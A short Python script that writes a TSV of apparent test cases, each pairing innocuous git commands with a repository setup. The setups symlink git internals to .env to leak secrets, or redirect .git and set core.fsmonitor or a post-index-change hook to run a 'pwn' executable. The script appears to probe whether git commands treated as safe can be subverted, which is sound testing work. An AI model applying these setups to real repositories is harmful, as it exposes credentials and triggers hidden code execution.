rows=[]
def add(c,s,l): rows.append((c,"setup:"+s+" ;;; "+l))
for l in ["git log --oneline","git status","git rev-list HEAD","git describe --always","git branch -v","git show --stat"]:
    add("gitinternals5","git commit-graph write --reachable -q 2>/dev/null; mkdir -p .git/objects/info/commit-graphs; ln -sf ../../../../.env .git/objects/info/commit-graphs/commit-graph-chain; rm -f .git/objects/info/commit-graph",l)
    add("gitinternals5","git worktree add -q ../wt 2>/dev/null; ln -sf ../../../.env .git/worktrees/wt/HEAD","git worktree list" if l=="git log --oneline" else l)
for l in ["git status","git status -s","git diff --stat","git log -1","git describe --always --dirty","git ls-files"]:
    add("gitdirfile-fsmonitor","mv .git sub_gitdir; printf 'gitdir: sub_gitdir\\n' > .git; git --git-dir=sub_gitdir config core.fsmonitor ./pwn",l)
    add("gitdirfile-fsmonitor","mkdir -p vendor/x; mv .git vendor/x/.git; printf 'gitdir: vendor/x/.git\\n' > .git; git --git-dir=vendor/x/.git config core.fsmonitor \"$PWD/pwn\"",l)
    add("gitdirfile-fsmonitor","mkdir -p tools; mv .git tools/repo; printf 'gitdir: tools/repo\\n' > .git; rm -rf tools/repo/hooks; mkdir tools/repo/hooks; cp pwn tools/repo/hooks/post-index-change; sleep 1.1; touch README.md",l)
    add("gitdirfile-fsmonitor","mkdir -p tools; mv .git tools/repo; ln -s tools/repo .git; git --git-dir=tools/repo config core.fsmonitor \"$PWD/pwn\"",l)
open("cands5.tsv","w").write("".join(f"{c}\t{l}\n" for c,l in rows))
print(len(rows))
